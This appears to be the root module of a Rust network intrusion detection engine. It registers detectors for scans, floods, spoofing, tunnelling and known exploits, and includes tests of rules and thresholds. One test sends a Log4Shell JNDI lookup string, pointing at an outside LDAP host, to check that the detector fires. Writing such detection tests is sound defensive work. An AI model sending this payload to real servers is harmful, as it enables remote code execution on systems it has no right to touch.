//! Who attacks whom. Packets become sessions ([`session`]), sessions have moments ([`event`]), and each detector hears of
//! the moments it asked for. What it finds goes to the book ([`book`]), which makes one alert of what belongs together.
//!
//! One file a detector; it brings its rules ([`Rule`]) with their words and settings, and is one line in [`DETECTORS`].
//! Everything here is driven by packet time, is bounded, and knows nothing of files, sockets or clocks.

mod amp;
mod backscatter;
mod beacon;
pub mod book;
mod brute_reply;
mod brute_session;
mod course;
mod detection;
mod different;
mod dns_abuse;
pub mod event;
mod firsts;
mod flood;
mod flood_arp;
mod flood_dhcp;
mod flood_make;
mod flood_rules;
mod fragment;
mod guesses;
mod heads;
mod heartbleed;
mod http_exploit;
mod http_malware;
mod http_scan;
pub mod labels;
mod later;
mod legacy;
mod mining;
mod probe;
mod quoted;
pub mod readers;
mod retelling;
mod rule;
mod scan_host;
mod scan_link;
mod scan_port;
mod scan_protocol;
mod scan_slow;
pub mod session;
mod sets;
mod sip;
mod smbghost;
mod spoof;
mod spoof_arp;
mod spoof_lan;
mod ssh_log_in;
mod surge;
mod talk;
mod traceroute;
pub mod tracker;
mod trickle;
mod tunnel_dns;
mod tunnel_icmp;
mod tunnel_ipv6;
mod turns;

use ahash::RandomState;
use capturer::Timestamp;

pub use book::{Book, Group};
pub use detection::Detection;
pub use event::{Event, Moments};
pub use labels::{Label, Labels};
pub use retelling::{Retelling, Untold};
pub use rule::{Rule, RuleError, Setting, Thresholds};
pub use session::{Began, Session};
pub use turns::in_turn;

use crate::alert::Severity;

/// Finds something of one kind.
pub trait Detector: Send {
    /// Hears of a moment that it asked for.
    fn observe(&mut self, event: &Event<'_>, context: &mut Context<'_>);

    /// Time passed: a few times a second, packets or not.
    fn advance(&mut self, _now: Timestamp, _context: &mut Context<'_>) {}

    /// Nothing more comes: what waits for more has to be decided.
    fn finish(&mut self, _at: Timestamp, _context: &mut Context<'_>) {}
}

/// What all detectors share.
pub struct Context<'a> {
    /// Where findings go.
    pub book: &'a mut Book,
    /// What they tell each other.
    pub labels: &'a mut Labels,
    /// For keys of tables: seeded at random.
    pub hasher: &'a RandomState,
}

/// A line of the registry.
pub struct Entry {
    /// What it can find.
    pub rules: &'static [&'static Rule],
    /// What it wants to hear of.
    pub wants: Moments,
    /// Makes one.
    pub make: fn(&Thresholds) -> Box<dyn Detector>,
}

/// All detectors.
pub static DETECTORS: &[Entry] = &[
    traceroute::ENTRY,
    backscatter::ENTRY,
    scan_port::ENTRY,
    scan_host::ENTRY,
    scan_slow::ENTRY,
    scan_link::ENTRY,
    flood::ENTRY,
    amp::ENTRY,
    spoof::ENTRY,
    spoof_arp::ENTRY,
    spoof_lan::ENTRY,
    fragment::ENTRY,
    flood_arp::ENTRY,
    probe::ENTRY,
    scan_protocol::ENTRY,
    beacon::ENTRY,
    legacy::ENTRY,
    http_exploit::ENTRY,
    http_scan::ENTRY,
    http_malware::ENTRY,
    tunnel_dns::ENTRY,
    dns_abuse::ENTRY,
    brute_session::ENTRY,
    brute_reply::ENTRY,
    sip::ENTRY,
    flood_dhcp::ENTRY,
    heartbleed::ENTRY,
    mining::ENTRY,
    smbghost::ENTRY,
    tunnel_icmp::ENTRY,
    tunnel_ipv6::ENTRY,
];

/// All rules.
pub fn rules() -> impl Iterator<Item = &'static Rule> {
    DETECTORS.iter().flat_map(|entry| entry.rules.iter().copied())
}

/// Whether a rule hears of flow records, too ([`Retelling`]); the others need packets.
pub fn hears_records(rule: &Rule) -> bool {
    let has = |entry: &&Entry| entry.rules.iter().any(|known| known.id == rule.id);
    DETECTORS.iter().find(has).is_some_and(|entry| entry.wants.any(Moments::OF_RECORDS))
}

/// Whether a rule is the one that is wanted, or of that family.
pub fn is_of(id: &str, wanted: &str) -> bool {
    id.strip_prefix(wanted).is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
}

/// The rule of alerts that nobody sees.
static VOID: Rule = Rule {
    id: "none",
    title: "",
    technique: "",
    severity: Severity::Info,
    most: Severity::Info,
    sees: "",
    caveat: "",
    sources: "",
    settings: &[],
    tell: |_| String::new(),
};

#[cfg(test)]
mod scenes;

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::scenes::{Scenario, Scene};
    use super::*;

    /// The plays of all detectors.
    fn scenarios() -> impl Iterator<Item = &'static Scenario> {
        [
            traceroute::SCENARIOS,
            backscatter::SCENARIOS,
            scan_port::SCENARIOS,
            scan_host::SCENARIOS,
            scan_slow::SCENARIOS,
            scan_link::SCENARIOS,
            flood::SCENARIOS,
            amp::SCENARIOS,
            spoof::SCENARIOS,
            spoof_arp::SCENARIOS,
            spoof_lan::SCENARIOS,
            fragment::SCENARIOS,
            flood_arp::SCENARIOS,
            probe::SCENARIOS,
            scan_protocol::SCENARIOS,
            beacon::SCENARIOS,
            legacy::SCENARIOS,
            http_exploit::SCENARIOS,
            http_scan::SCENARIOS,
            http_malware::SCENARIOS,
            tunnel_dns::SCENARIOS,
            dns_abuse::SCENARIOS,
            brute_session::SCENARIOS,
            brute_reply::SCENARIOS,
            sip::SCENARIOS,
            flood_dhcp::SCENARIOS,
            heartbleed::SCENARIOS,
            mining::SCENARIOS,
            smbghost::SCENARIOS,
            tunnel_icmp::SCENARIOS,
            tunnel_ipv6::SCENARIOS,
        ]
        .into_iter()
        .flatten()
    }

    #[test]
    fn a_request_late_on_a_connection_that_is_kept_is_read() {
        let (client, server) = ((scenes::ip("203.0.113.5"), 50_000), (scenes::ip("192.0.2.1"), 80));
        let mut scene = Scene::new();
        scene.connect(client, server);
        for _ in 0..250 {
            scene.tcp(client, server, scenes::PSH_ACK, b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n");
            scene.tcp(server, client, scenes::PSH_ACK, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
        }
        scene.tcp(
            client,
            server,
            scenes::PSH_ACK,
            b"GET / HTTP/1.1\r\nX: ${jndi:ldap://203.0.113.9/a}\r\n\r\n",
        );
        scene.detection.finish();
        let told: Vec<&str> = scene.detection.alerts().iter().map(|alert| alert.rule.id).collect();
        assert_eq!(told, ["exploit.log4j"]);
    }

    #[test]
    fn every_rule_is_told_of_in_words_and_has_settings_within_their_ranges() {
        let mut ids = HashSet::new();
        for rule in rules() {
            assert!(ids.insert(rule.id), "{} is there twice", rule.id);
            let words = [rule.title, rule.sees, rule.caveat, rule.sources];
            assert!(words.iter().all(|words| !words.is_empty()), "{} lacks words", rule.id);
            assert!(rule.id.contains('.') || rule.id == "backscatter", "{} has no family", rule.id);
            assert!(rule.technique.is_empty() || rule.technique.starts_with('T'), "{}", rule.id);
            assert!(rule.most >= rule.severity, "{}", rule.id);
            for setting in rule.settings {
                let range = setting.least..=setting.most;
                assert!(range.contains(&setting.default), "{}: {}", rule.id, setting.name);
            }
        }
    }

    #[test]
    fn every_rule_speaks_in_its_play_and_is_silent_in_the_other() {
        for rule in rules() {
            let scenario = scenarios().find(|scenario| scenario.rule == rule.id);
            let scenario = scenario.unwrap_or_else(|| panic!("{} has no scenarios", rule.id));
            let mut scene = Scene::new();
            (scenario.positive)(&mut scene);
            let spoke = scene.rules();
            assert!(spoke.contains(&rule.id), "{} is silent: {spoke:?}", rule.id);
            let alert = scene.detection.alerts().iter().find(|alert| alert.rule == rule).unwrap();
            assert!(alert.count > 0 && !alert.frames.is_empty() && alert.first <= alert.last, "{alert:?}");
            let over_time: u64 = alert.timeline.counts().iter().sum();
            assert_eq!(over_time, alert.count, "{}: {:?}", rule.id, alert.timeline);
            let decides = alert.figures.iter().any(|figure| figure.threshold.is_some());
            assert!(decides || rule.settings.is_empty(), "{} shows no threshold: {alert:?}", rule.id);
            let sentence = alert.summary();
            assert!(sentence.len() > 20 && !sentence.contains("unknown"), "{}: {sentence}", rule.id);
            let mut scene = Scene::new();
            (scenario.negative)(&mut scene);
            let spoke = scene.rules();
            assert!(!spoke.contains(&rule.id), "{} cries", rule.id);
        }
    }

    #[test]
    fn a_setting_that_cannot_be_is_refused_with_what_can() {
        let mut thresholds = Thresholds::default();
        assert!(thresholds.set("scan.port.tcp_syn", "ports", 20.0).is_ok());
        let wrong = [
            ("scan.port.none", "ports", 20.0, "there is no rule `scan.port.none`"),
            ("scan.port.tcp_syn", "hosts", 20.0, "no setting `hosts`; it has ports, window"),
            ("scan.port.tcp_syn", "ports", 1e9, "expected 4 to 64"),
        ];
        for (rule, name, value, says) in wrong {
            let error = thresholds.set(rule, name, value).unwrap_err().to_string();
            assert!(error.contains(says), "{error}");
        }
    }
}
